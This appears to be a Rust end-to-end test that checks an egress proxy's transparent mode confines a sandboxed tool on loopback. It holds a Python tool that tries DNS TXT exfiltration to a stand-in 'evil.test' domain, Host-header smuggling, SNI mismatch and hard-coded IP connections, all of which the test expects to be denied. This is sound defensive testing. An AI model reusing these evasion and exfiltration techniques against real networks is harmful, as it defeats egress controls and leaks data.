@@ -1,0 +1,406 @@
+//! Transparent egress end to end (`network = "transparent"`): the real
+//! `egress-proxy` binary and an executor in this process; a Python tool
+//! whose clients use no proxy at all (proxy variables removed, urllib with
+//! no proxy handler, raw sockets, `curl --noproxy '*'`, Node's global
+//! `fetch`) reaches allowed names over plain HTTP, TLS (a spliced tunnel)
+//! and raw TCP, and nothing else: unlisted names are NXDOMAIN with a fact of
+//! kind `dns` and never reach the upstream DNS, a TXT exfiltration query
+//! likewise, a hard-coded IP is `ip_literal`, a TLS server name that is not
+//! the name is `host_mismatch`, UDP to another port fails; a
+//! `network = "proxy"` tool is unchanged (no name resolves, no direct
+//! connect). Strict where the host has every layer, else best_effort.
+//! Needs root (namespaces, nftables); skipped loudly otherwise.
+//! Loopback only: the origins are on 127.0.0.2, the proxy's upstream DNS is
+//! a fake on loopback, every address the children use lives in their own
+//! namespaces.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::net::SocketAddr;
+use std::path::PathBuf;
+use std::process::Command;
+use std::time::Duration;
+
+use egress_e2e::executor::*;
+use egress_e2e::harness::TOKEN;
+use egress_e2e::process::{spawn_reporting, KillOnDrop};
+use egress_e2e::FakeDns;
+use egress_executor::{Config, Executor, InvocationRequest};
+use serde_json::{json, Value};
+
+fn proxy_bin() -> Option<PathBuf> {
+    if let Some(p) = std::env::var_os("EGRESS_PROXY_BIN") {
+        return Some(PathBuf::from(p));
+    }
+    let exe = std::env::current_exe().ok()?;
+    let p = exe.parent()?.parent()?.join("egress-proxy");
+    p.exists().then_some(p)
+}
+
+/// Why this host cannot run these tests, if it cannot.
+fn unable() -> Option<String> {
+    if proxy_bin().is_none() {
+        return Some("egress-proxy binary not built (run `cargo build -p egress-proxy` first)".into());
+    }
+    if !is_root() {
+        return Some("needs root (network namespaces, nftables)".into());
+    }
+    if let Err(e) = egress_executor::transparent::nft() {
+        return Some(e);
+    }
+    if python().is_none() {
+        return Some("no python3".into());
+    }
+    None
+}
+
+/// The proxy (from its binary) and an executor here, one config: `tools`
+/// under a `[proxy]` whose only DNS server is `dns` and which allows
+/// 127.0.0.2.
+fn start_stack(dir: &TempDir, dns: SocketAddr, tools: &str) -> (KillOnDrop, std::sync::Arc<Executor>) {
+    let config = |control: &str| {
+        format!(
+            r#"
+[proxy]
+listen = "127.0.0.1:0"
+control = "{control}"
+facts = "var/egress-facts.db"
+allow_ranges = ["127.0.0.2/32"]
+
+[proxy.dns]
+servers = ["{dns}"]
+
+[executor]
+listen = "127.0.0.1:0"
+scratch_dir = "scratch"
+{tools}"#
+        )
+    };
+    let mut cmd = Command::new(proxy_bin().unwrap());
+    cmd.args(["serve", "--log-format", "json", "--config"])
+        .arg(dir.write("proxy.toml", &config("127.0.0.1:0")))
+        .env("EGRESS_CONTROL_TOKEN", TOKEN);
+    let (child, control) = spawn_reporting(&mut cmd, "control");
+    let exec_cfg = dir.write("egress.toml", &config(&control.to_string()));
+    let exec = Executor::new(Config::load(&exec_cfg).unwrap(), Some(TOKEN.into())).unwrap();
+    (KillOnDrop(child), exec)
+}
+
+/// The tool: every client below ignores the proxy (the variables are
+/// removed first), so each connection it makes goes where the namespace
+/// sends it.
+const TOOL_PY: &str = r#"
+import json, os, socket, ssl, struct, subprocess, urllib.request, urllib.error
+
+for k in list(os.environ):
+    if k.lower().endswith("_proxy") or k == "NODE_USE_ENV_PROXY":
+        del os.environ[k]
+
+WEB, TLS, DB = int(os.environ["WEB"]), int(os.environ["TLS"]), int(os.environ["DB"])
+CA = os.environ["ORIGIN_CA"]
+
+def attempt(f):
+    try:
+        return f()
+    except Exception as e:
+        return {"error": type(e).__name__, "errno": getattr(e, "errno", None), "text": str(e)[:200]}
+
+def nameserver():
+    try:
+        for line in open("/etc/resolv.conf"):
+            parts = line.split()
+            if len(parts) >= 2 and parts[0] == "nameserver" and ":" not in parts[1]:
+                return parts[1]
+    except OSError:
+        pass
+    return "127.0.0.1"
+
+def dns_rcode(name, qtype):
+    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    for part in name.split("."):
+        q += bytes([len(part)]) + part.encode()
+    q += b"\0" + struct.pack("!HH", qtype, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(q, (nameserver(), 53))
+    r = s.recv(512)
+    return {"rcode": r[3] & 0xF, "answers": struct.unpack("!H", r[6:8])[0]}
+
+def urllib_get(url):
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+    try:
+        with opener.open(url, timeout=10) as r:
+            return {"status": r.status, "body": r.read().decode()}
+    except urllib.error.HTTPError as e:
+        return {"status": e.code, "reason": e.headers.get("X-Egress-Deny-Reason")}
+
+def echo():
+    with socket.create_connection(("db.test", DB), timeout=10) as s:
+        s.sendall(b"\x00raw bytes\n")
+        return s.recv(100).decode()
+
+def http_to_another_host():
+    # The raw rule db.test:DB used to speak HTTP to another Host.
+    with socket.create_connection(("db.test", DB), timeout=10) as s:
+        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
+        head = s.recv(4096).decode(errors="replace").split("\r\n")
+        reason = [l.split(":", 1)[1].strip() for l in head if l.lower().startswith("x-egress-deny-reason:")]
+        return {"status": head[0], "reason": reason[0] if reason else None}
+
+def tls(server_name):
+    ctx = ssl.create_default_context(cafile=CA)
+    if server_name != "tls.test":
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+    with socket.create_connection(("tls.test", TLS), timeout=10) as raw:
+        with ctx.wrap_socket(raw, server_hostname=server_name) as t:
+            t.sendall(b"GET / HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n")
+            data = b""
+            while True:
+                chunk = t.recv(4096)
+                if not chunk:
+                    break
+                data += chunk
+            return {"status": data.split(b"\r\n", 1)[0].decode(), "body": data.split(b"\r\n\r\n", 1)[-1].decode()}
+
+def ip_literal_http():
+    with socket.create_connection(("192.0.2.1", 80), timeout=10) as s:
+        s.sendall(b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nConnection: close\r\n\r\n")
+        return s.recv(4096).decode(errors="replace").split("\r\n")[0]
+
+def ip6_literal_http():
+    with socket.create_connection(("2001:db8::1", 80), timeout=10) as s:
+        s.sendall(b"GET / HTTP/1.1\r\nHost: [2001:db8::1]\r\nConnection: close\r\n\r\n")
+        return s.recv(4096).decode(errors="replace").split("\r\n")[0]
+
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"hello", ("192.0.2.1", 9999))
+    return "sent"
+
+def curl():
+    p = subprocess.run(["curl", "--noproxy", "*", "-s", "-m", "10", f"http://web.test:{WEB}/"],
+                       capture_output=True, timeout=20)
+    return {"code": p.returncode, "out": p.stdout.decode()}
+
+def node():
+    js = f"fetch('http://web.test:{WEB}/').then(r => r.text()).then(t => console.log(t)).catch(e => {{ console.log('ERR ' + e.cause); }})"
+    p = subprocess.run(["node", "-e", js], capture_output=True, timeout=20)
+    return {"code": p.returncode, "out": p.stdout.decode().strip(), "err": p.stderr.decode()[-300:]}
+
+def run(input, ctx):
+    return {
+        "resolve_web": attempt(lambda: socket.gethostbyname("web.test")),
+        "resolve_evil": attempt(lambda: socket.gethostbyname("evil.test")),
+        "txt_exfil": attempt(lambda: dns_rcode("c2VjcmV0.exfil.evil.test", 16)),
+        "http": attempt(lambda: urllib_get(f"http://web.test:{WEB}/")),
+        "http_unlisted_port": attempt(lambda: urllib_get(f"http://web.test:{DB}/")),
+        "raw": attempt(echo),
+        "http_to_another_host": attempt(http_to_another_host),
+        "tls": attempt(lambda: tls("tls.test")),
+        "sni_mismatch": attempt(lambda: tls("other.test")),
+        "ip_literal": attempt(ip_literal_http),
+        "ip6_literal": attempt(ip6_literal_http),
+        "udp": attempt(udp),
+        "curl": attempt(curl) if input.get("curl") else None,
+        "node": attempt(node) if input.get("node") else None,
+    }
+"#;
+
+/// A `network = "proxy"` tool in the same stack: nothing outside the proxy.
+const PROXY_TOOL_PY: &str = r#"
+import os, socket
+
+def attempt(f):
+    try:
+        return f()
+    except Exception as e:
+        return {"error": type(e).__name__, "errno": getattr(e, "errno", None)}
+
+def run(input, ctx):
+    return {
+        "resolve": attempt(lambda: socket.gethostbyname("web.test")),
+        "connect": attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=5) and "connected"),
+        "connect_synthetic": attempt(lambda: socket.create_connection(("198.18.0.1", int(os.environ["WEB"])), timeout=5) and "connected"),
+    }
+"#;
+
+#[tokio::test]
+async fn unmodified_clients_reach_allowed_names_and_nothing_else() {
+    if let Some(why) = unable() {
+        eprintln!("SKIPPED unmodified_clients_reach_allowed_names_and_nothing_else: {why}");
+        return;
+    }
+    // nft is there, so the kernel must take the rules (a failure here is
+    // the setup's, not the host's, unless the kernel lacks nf_tables).
+    if let Err(e) = egress_executor::confine::transparent_support() {
+        panic!("transparent egress cannot be set up on this host: {e}");
+    }
+    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
+    let (db, db_connections) = egress_e2e::origin::echo_origin("127.0.0.2:0").await;
+    let tls = egress_e2e::tls_origin::tls_origin("127.0.0.2:0", &["tls.test"]).await;
+    let dns = FakeDns::start().await;
+    for name in ["web.test", "db.test", "tls.test"] {
+        dns.set(name, &["127.0.0.2"]);
+    }
+    dns.set("evil.test", &["127.0.0.2"]);
+    let dir = TempDir::new("transparent");
+    let ca = tls.write_ca(dir.path());
+    dir.write("tool.py", TOOL_PY);
+    dir.write("proxy_tool.py", PROXY_TOOL_PY);
+    let runner = runners_dir().join("loom_runner.py");
+    let env = format!(
+        "env = {{ WEB = \"{}\", TLS = \"{}\", DB = \"{}\", ORIGIN_CA = \"{}\" }}",
+        web.addr.port(),
+        tls.addr.port(),
+        db.port(),
+        ca.display()
+    );
+    // Strict where the host has every layer (it refuses to start
+    // otherwise); best_effort keeps what the host has.
+    let host = egress_executor::confine::host(&Default::default());
+    let isolation = if egress_executor::confine::Layer::ALL.iter().all(|l| host.available(*l)) {
+        "strict"
+    } else {
+        eprintln!("not every confinement layer here: the tools run best_effort");
+        "best_effort"
+    };
+    let tools = format!(
+        r#"
+[tools.tp]
+network = "transparent"
+egress = ["web.test:{web}", "tls.test:{tls}", "db.test:{db}"]
+
+[tools.tp.process]
+command = ["python3", "{runner}", "tool.py"]
+{env}
+read_paths = ["{ca}"]
+isolation = "{isolation}"
+pool = {{ warm = 0, max = 2 }}
+timeout_ms = 60000
+
+[tools.plain]
+egress = ["web.test:{web}"]
+
+[tools.plain.process]
+command = ["python3", "{runner}", "proxy_tool.py"]
+{env}
+isolation = "{isolation}"
+pool = {{ warm = 0, max = 1 }}
+timeout_ms = 30000
+"#,
+        web = web.addr.port(),
+        tls = tls.addr.port(),
+        db = db.port(),
+        runner = runner.display(),
+        ca = ca.display(),
+    );
+    let (proxy, exec) = start_stack(&dir, dns.addr, &tools);
+    let input = json!({"curl": which("curl").is_some(), "node": node().is_some()});
+    let res = exec
+        .invoke(InvocationRequest {
+            tool: "tp".into(),
+            input,
+            run_id: None,
+            idempotency_key: None,
+            timeout_ms: None,
+        })
+        .await;
+    assert!(res.ok, "{res:#?}");
+    let out: Value = res.output.clone().unwrap();
+    eprintln!("{out:#}");
+
+    // DNS: a listed name gets a synthetic address; an unlisted one is
+    // NXDOMAIN (EAI_NONAME), as is a TXT query carrying data out.
+    let synthetic = out["resolve_web"].as_str().unwrap_or_default();
+    assert!(
+        synthetic.starts_with("198.18.") || synthetic.starts_with("198.19."),
+        "{out:#}"
+    );
+    assert_eq!(out["resolve_evil"]["error"], json!("gaierror"), "{out:#}");
+    assert_eq!(out["txt_exfil"]["rcode"], json!(3), "{out:#}");
+    // Plain HTTP, raw TCP and TLS to listed names work; the listed name on
+    // a port it is not listed for does not.
+    assert_eq!(out["http"]["status"], json!(200), "{out:#}");
+    assert_eq!(out["http"]["body"], json!("hello from origin"), "{out:#}");
+    assert_eq!(out["http_unlisted_port"]["status"], json!(403), "{out:#}");
+    assert_eq!(out["http_unlisted_port"]["reason"], json!("not_allowlisted"), "{out:#}");
+    assert_eq!(out["raw"], json!("\u{0}raw bytes\n"), "{out:#}");
+    // The raw rule spoken as HTTP to another host: refused (the first bytes
+    // are HTTP, so the Host must name db.test), not relayed to db.test.
+    assert_eq!(out["http_to_another_host"]["reason"], json!("host_mismatch"), "{out:#}");
+    assert_eq!(db_connections.load(std::sync::atomic::Ordering::SeqCst), 1, "{out:#}");
+    assert_eq!(out["tls"]["status"], json!("HTTP/1.1 200 OK"), "{out:#}");
+    assert_eq!(out["tls"]["body"], json!("ok from the tls origin\n"), "{out:#}");
+    // A TLS server name that is not the name: no tunnel.
+    assert!(out["sni_mismatch"]["error"].is_string(), "{out:#}");
+    // A hard-coded address: the connect lands at the proxy, which denies it.
+    assert!(out["ip_literal"].as_str().is_some_and(|l| l.contains("403")), "{out:#}");
+    // The same over IPv6 (the [::1]:3127 listener).
+    assert!(
+        out["ip6_literal"].as_str().is_some_and(|l| l.contains("403")),
+        "{out:#}"
+    );
+    // UDP anywhere but DNS: dropped in the namespace (EPERM).
+    assert_eq!(out["udp"]["errno"], json!(1), "{out:#}");
+    if which("curl").is_some() {
+        assert_eq!(out["curl"]["out"], json!("hello from origin"), "{out:#}");
+    }
+    if node().is_some() {
+        assert_eq!(out["node"]["out"], json!("hello from origin"), "{out:#}");
+    }
+
+    // The facts of the run: each denial, labelled by its entrance.
+    let facts: Vec<(String, String, String)> = res
+        .facts
+        .iter()
+        .map(|f| {
+            let t = f.target.as_ref();
+            (
+                f.reason.clone(),
+                t.map(|t| t.kind.clone()).unwrap_or_default(),
+                t.map(|t| t.host.clone()).unwrap_or_default(),
+            )
+        })
+        .collect();
+    let has = |reason: &str, kind: &str, host: &str| {
+        facts
+            .iter()
+            .any(|(r, k, h)| r == reason && k == kind && h.contains(host))
+    };
+    assert!(has("not_allowlisted", "dns", "evil.test"), "{facts:#?}");
+    assert!(has("not_allowlisted", "dns", "exfil.evil.test"), "{facts:#?}");
+    assert!(has("ip_literal", "transparent", "192.0.2.1"), "{facts:#?}");
+    assert!(has("ip_literal", "transparent", "2001:db8::1"), "{facts:#?}");
+    assert!(has("host_mismatch", "transparent", "tls.test"), "{facts:#?}");
+    // No query for a denied name ever left the proxy.
+    let asked = dns.queries();
+    assert!(!asked.iter().any(|q| q.contains("evil.test")), "{asked:?}");
+
+    // A `network = "proxy"` tool: no name resolves, no connect leaves.
+    let res = exec
+        .invoke(InvocationRequest {
+            tool: "plain".into(),
+            input: json!({}),
+            run_id: None,
+            idempotency_key: None,
+            timeout_ms: None,
+        })
+        .await;
+    assert!(res.ok, "{res:#?}");
+    let out = res.output.clone().unwrap();
+    eprintln!("{out:#}");
+    assert_eq!(out["resolve"]["error"], json!("gaierror"), "{out:#}");
+    // Landlock's TCP rule (connect to the proxy port only) where the kernel
+    // has it: EACCES; else the namespace's missing route.
+    let landlock_tcp = egress_executor::confine::host(&Default::default()).landlock_abi >= 4;
+    for what in ["connect", "connect_synthetic"] {
+        if landlock_tcp {
+            assert_eq!(out[what]["errno"], json!(13), "{what}: {out:#}");
+        } else {
+            assert!(out[what]["error"].is_string(), "{what}: {out:#}");
+        }
+    }
+    exec.shutdown();
+    exec.drain(Duration::from_secs(5)).await;
+    drop(proxy);
+}
